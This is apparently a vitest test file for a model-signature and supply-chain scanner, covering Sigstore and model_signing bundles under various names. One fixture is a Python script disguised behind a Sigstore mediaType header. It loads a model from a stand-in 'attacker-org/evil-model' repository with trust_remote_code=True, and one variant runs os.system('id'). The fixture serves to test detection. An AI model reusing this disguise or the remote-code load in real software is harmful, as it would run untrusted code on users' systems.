import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { hasSigstoreBundleHead } from '../../src/discover/catalogue/sniffers.js';
import { detectFormat } from '../../src/discover/detect.js';
import { DEFAULT_SKIP_DIRS, walkTree } from '../../src/discover/walk.js';
import { refsStage } from '../../src/refs/stage.js';
import { signaturesStage } from '../../src/verify/stage.js';
import { findModelSignatures } from '../../src/verify/stage/models.js';
import { corpusPath } from '../helpers/corpus.js';
import { scanWith } from '../helpers/scan.js';
import { blockNetwork, modelsSignedBy, signFiles } from './helpers.js';

beforeAll(blockNetwork);

/**
 * model_signing writes its signature wherever `--signature` says and `verify` reads it from the path it is given
 * (model_signing/_cli.py, verifying.py `Config.verify`): a Sigstore bundle whose statement is model_signing's is a
 * model signature whatever it is called, and is judged over its model once — not as a detached bundle or a cosign
 * signature of the file its name happens to start with.
 */
const policy = modelsSignedBy(['ecKey'], []);

let root: string;
afterEach(() => rmSync(root, { recursive: true, force: true }));

/** `models/m` with two files, signed into `signature` (relative to the root). */
function signedModel(signature: string): string {
  root = mkdtempSync(path.join(tmpdir(), 'cp-ms-names-'));
  const dir = path.join(root, 'models/m');
  mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(dir, 'weights.bin'), 'AAAA');
  writeFileSync(path.join(dir, 'config.json'), '{}');
  mkdirSync(path.dirname(path.join(root, signature)), { recursive: true });
  signFiles(dir, ['config.json', 'weights.bin'], false, path.join(root, signature));
  return dir;
}

const scan = () => scanWith(root, [signaturesStage], { policy, today: '2025-06-01' });
const findingsOf = (r: Awaited<ReturnType<typeof scan>>) =>
  r.findings.map((f) => `${f.ruleId} ${f.location.path}`).sort();
const statusOf = (r: Awaited<ReturnType<typeof scan>>, file: string) =>
  r.verifications.find((v) => v.key === `file:${file}`)?.status;

describe('a model signature under another name than model.sig', () => {
  it.each([
    ['models/m/signature.sig'],
    ['models/m/m.sig'],
    ['models/m/model.sigstore.json'],
    // Named like cosign's signature of the file beside it: its content says it is model_signing's.
    ['models/m/weights.bin.sig'],
    // `model_signing sign models/m --signature m.sig` run in models/: beside the folder it signs.
    ['models/m.sig'],
    // Signatures kept in a folder of their own: the one folder named as the subject that holds the signed files.
    ['signatures/m.sig'],
  ])('%s verifies the model, and is nothing else', async (signature) => {
    signedModel(signature);
    const r = await scan();
    expect(findingsOf(r)).toEqual([]);
    expect(statusOf(r, 'models/m/weights.bin')).toBe('verified');
    expect(statusOf(r, 'models/m/config.json')).toBe('verified');
  });

  it.each([['models/m/signature.sig'], ['models/m/model.sigstore.json'], ['models/m/weights.bin.sig']])(
    '%s: a changed file fails it once (CPS004), and an added one is unsigned (CPS006)',
    async (signature) => {
      const dir = signedModel(signature);
      writeFileSync(path.join(dir, 'weights.bin'), 'BBBB');
      writeFileSync(path.join(dir, 'evil.pkl'), 'x');
      const r = await scan();
      expect(findingsOf(r)).toEqual(['CPS004 models/m/weights.bin', 'CPS006 models/m/evil.pkl']);
      expect(r.findings.find((f) => f.ruleId === 'CPS004')!.message).toContain(signature);
    },
  );

  it('kept apart, with two folders named as the subject: one CPS007 naming both, its own folder never compared', async () => {
    const dir = signedModel('signatures/m.sig');
    mkdirSync(path.join(root, 'archive/m'), { recursive: true });
    for (const f of ['weights.bin', 'config.json'])
      writeFileSync(path.join(root, 'archive/m', f), readFileSync(path.join(dir, f)));
    // A second signature of the same model in the same folder: neither is a file of the other's "model".
    signFiles(dir, ['config.json', 'weights.bin'], false, path.join(root, 'signatures/other.sig'));
    const r = await scan();
    expect(findingsOf(r)).toEqual(['CPS007 signatures/m.sig', 'CPS007 signatures/other.sig']);
    expect(r.findings[0]!.message).toContain('2 folders named so hold its files (archive/m, models/m)');
    expect(statusOf(r, 'models/m/weights.bin')).toBe('unverifiable');
    expect(statusOf(r, 'archive/m/config.json')).toBe('unverifiable');
  });

  it('a real model_signing signature (v1.0.1, Sigstore keyless) renamed signature.sig verifies as model.sig does', async () => {
    root = mkdtempSync(path.join(tmpdir(), 'cp-ms-names-'));
    const sample = corpusPath('sigstore', 'model-signing', 'v1.0.1-sigstore');
    const dir = path.join(root, 'models/bert');
    mkdirSync(dir, { recursive: true });
    for (const f of ['signme-1', 'signme-2']) writeFileSync(path.join(dir, f), readFileSync(path.join(sample, f)));
    writeFileSync(path.join(dir, 'signature.sig'), readFileSync(path.join(sample, 'model.sig')));
    const r = await scanWith(root, [signaturesStage], { today: '2025-10-08' });
    expect(findingsOf(r)).toEqual([]);
    expect(statusOf(r, 'models/bert/signme-1')).toBe('verified');
    expect(r.verifications.find((v) => v.key === 'file:models/bert/signme-1')?.detail).toContain(
      'models/bert/signature.sig',
    );
  });

  it('a Sigstore bundle of something else under a name no format claims is left alone', async () => {
    root = mkdtempSync(path.join(tmpdir(), 'cp-ms-names-'));
    const bundle = corpusPath('sigstore', 'conformance', 'bundle-verify', 'happy-path-v0.3', 'bundle.sigstore.json');
    mkdirSync(path.join(root, 'models'));
    writeFileSync(path.join(root, 'models/attestation.json'), readFileSync(bundle));
    writeFileSync(path.join(root, 'models/weights.bin'), 'AAAA');
    const r = await scanWith(root, [signaturesStage]);
    expect(findingsOf(r)).toEqual([]);
    expect(r.verifications).toEqual([]);
  });

  it('Sigstore bundles too large to read under other names are one CPS007 with their count, never passed over', async () => {
    root = mkdtempSync(path.join(tmpdir(), 'cp-ms-names-'));
    mkdirSync(path.join(root, 'models'));
    const head = '{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json", "pad": "';
    const big = Buffer.concat([Buffer.from(head), Buffer.alloc(16 * 1024 * 1024, 0x61), Buffer.from('"}')]);
    for (const name of ['a.sig', 'b.sig']) writeFileSync(path.join(root, 'models', name), big);
    const r = await scanWith(root, [signaturesStage]);
    expect(findingsOf(r)).toEqual(['CPS007 models/a.sig']);
    expect(r.findings[0]!.message).toContain(
      '2 files that look like Sigstore bundles (models/a.sig, models/b.sig) are larger than 16 MiB',
    );
    expect(r.findings[0]!.evidence).toMatchObject({ files: 2 });
    // One more such file keeps the finding's identity (--baseline, SARIF): the count is a tally.
    writeFileSync(path.join(root, 'models', 'c.sig'), big);
    const again = await scanWith(root, [signaturesStage]);
    expect(again.findings.map((f) => f.fingerprint)).toEqual(r.findings.map((f) => f.fingerprint));
  });
});

describe('discovery of a Sigstore bundle by content', () => {
  const bundle = Buffer.from('{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json", "verificationMaterial"');
  it('marks a Sigstore bundle head no name claims as a candidate only, its format left as it is', () => {
    expect(hasSigstoreBundleHead(bundle)).toBe(true);
    expect(hasSigstoreBundleHead(Buffer.concat([Buffer.from(' \r\n\t'), bundle]))).toBe(true);
    expect(detectFormat(bundle, 'models/m/signature.sig', 5000).format).toBe('other');
    expect(detectFormat(bundle, 'models/m/signature.json', 5000).format).toBe('other');
  });
  it('leaves a named bundle, and JSON of another kind, as their names say', () => {
    expect(detectFormat(bundle, 'models/m/x.sigstore.json', 5000).format).toBe('sigstore-bundle');
    expect(hasSigstoreBundleHead(Buffer.from('{"mediaType": "text/plain"}'))).toBe(false);
    expect(hasSigstoreBundleHead(Buffer.from('x = {"mediaType": "application/vnd.dev.sigstore.bundle"}'))).toBe(false);
  });
});

/**
 * `{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json"}` is a Python expression statement: a script may open
 * with it and run anything after it. Its head makes it a candidate, never a signature: it keeps its refs findings and
 * what `signatures.require` asks of it.
 */
describe('a file that only opens like a Sigstore bundle', () => {
  const HIDDEN = `{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}
from transformers import AutoModel
model = AutoModel.from_pretrained("attacker-org/evil-model", trust_remote_code=True)
`;

  it('is walked as the source it is (format other, sigstoreHead)', async () => {
    root = mkdtempSync(path.join(tmpdir(), 'cp-ms-names-'));
    writeFileSync(path.join(root, 'load_hidden.py'), HIDDEN);
    const f = (await walkTree(root, { include: [], exclude: [], skipDirs: DEFAULT_SKIP_DIRS })).files.find(
      (x) => x.path === 'load_hidden.py',
    )!;
    expect(f.format).toBe('other');
    expect(f.sigstoreHead).toBe(true);
  });

  it('keeps its trust_remote_code load (CPR002)', async () => {
    root = mkdtempSync(path.join(tmpdir(), 'cp-ms-names-'));
    mkdirSync(path.join(root, 'src'));
    writeFileSync(path.join(root, 'src/load_hidden.py'), HIDDEN);
    const r = await scanWith(root, [refsStage]);
    expect(r.findings.filter((f) => f.ruleId === 'CPR002').map((f) => f.location.path)).toEqual(['src/load_hidden.py']);
  });

  it('must be signed where signatures.require says (CPS003)', async () => {
    root = mkdtempSync(path.join(tmpdir(), 'cp-ms-names-'));
    mkdirSync(path.join(root, 'models/n'), { recursive: true });
    writeFileSync(path.join(root, 'models/n/helper.py'), `${HIDDEN}import os\nos.system("id")\n`);
    expect(findingsOf(await scan())).toEqual(['CPS003 models/n/helper.py']);
  });

  it('a Sigstore bundle of something else under a name no format claims must be signed too', async () => {
    root = mkdtempSync(path.join(tmpdir(), 'cp-ms-names-'));
    const bundle = corpusPath('sigstore', 'conformance', 'bundle-verify', 'happy-path-v0.3', 'bundle.sigstore.json');
    mkdirSync(path.join(root, 'models/n'), { recursive: true });
    writeFileSync(path.join(root, 'models/n/attestation.json'), readFileSync(bundle));
    expect(findingsOf(await scan())).toEqual(['CPS003 models/n/attestation.json']);
  });
});

describe('a signature candidate that cannot be read when the stage reads it', () => {
  it('is a finding with its error code, and the search goes on (gone since discovery, now a folder)', async () => {
    root = mkdtempSync(path.join(tmpdir(), 'cp-ms-names-'));
    const file = (name: string, abs: string) =>
      ({
        path: name,
        abs,
        size: 10,
        dev: 0,
        ino: 0,
        mtimeMs: 0,
        ctimeMs: 0,
        format: 'other',
        sigstoreHead: true,
      }) as const;
    const found = await findModelSignatures(
      [file('models/a.sig', path.join(root, 'gone.sig')), file('models/b.sig', root)],
      new Set(),
    );
    expect(found.failed).toEqual([
      { path: 'models/a.sig', code: 'ENOENT' },
      { path: 'models/b.sig', code: 'EISDIR' },
    ]);
    expect(found.signatures).toEqual([]);
  });
});
